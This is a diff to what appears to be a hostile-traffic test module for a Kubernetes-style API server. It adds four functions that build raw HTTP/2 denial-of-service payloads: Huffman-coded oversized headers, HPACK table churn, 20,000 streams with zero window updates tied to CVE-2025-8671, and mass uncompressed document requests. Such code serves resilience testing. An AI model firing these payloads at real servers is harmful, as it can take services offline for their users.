@@ -13,6 +13,10 @@ import time
 from collections.abc import Iterator
 from typing import Final
 
+from hpack.hpack import encode_integer
+from hpack.huffman import HuffmanEncoder
+from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
+
 from kubechronicle.ops.development.hostile.site import NOBODY, Site
 
 TIMEOUT: Final = 20.0
@@ -166,6 +170,43 @@ def indexed_fields(site: Site) -> str:
     block = (request_block() + b"\x90" * MOST_FRAME)[:MOST_FRAME]  # accept-encoding: gzip, deflate
     parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(100))
     return http2(site, frame(SETTINGS, 0, 0), parts)
+
+
+def long_codes(site: Site) -> str:
+    """Send fields whose text is in the longest codes of Huffman, of 28 bits a character."""
+    coded = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"\xf9" * 3000)
+    length = encode_integer(len(coded), 7)
+    length[0] |= 0x80
+    block = request_block() + b"\0\1a" + bytes(length) + coded
+    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(200))
+    return http2(site, frame(SETTINGS, 0, 0), parts)
+
+
+def changed_table(site: Site) -> str:
+    """Send blocks of 1,500 fields that enter the table of the connection and drive out others."""
+    fields = (b"\x40\1a\4%04d" % number for number in range(1500))
+    block = (request_block() + b"".join(fields))[:MOST_FRAME]
+    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(300))
+    return http2(site, frame(SETTINGS, 0, 0), parts)
+
+
+def malformed_windows(site: Site) -> str:
+    """Open 20,000 streams that the server must reset: their windows are enlarged by nothing (CVE-2025-8671)."""
+    block, nothing = request_block(path=b"/openapi/v2"), bytes(4)
+    parts = (
+        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) + frame(WINDOW, 0, 1 + 2 * number, nothing)
+        for number in range(20_000)
+    )
+    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))
+
+
+def documents(site: Site) -> str:
+    """Request the largest documents 900 times at once, without compression."""
+    block = request_block(path=b"/openapi/v2") + literal(
+        b"authorization", site.headers(NOBODY)["authorization"].encode()
+    )
+    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(MOST_STREAMS))
+    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))
 
 
 def _joined(frames: Iterator[bytes], size: int = 1 << 16) -> Iterator[bytes]:
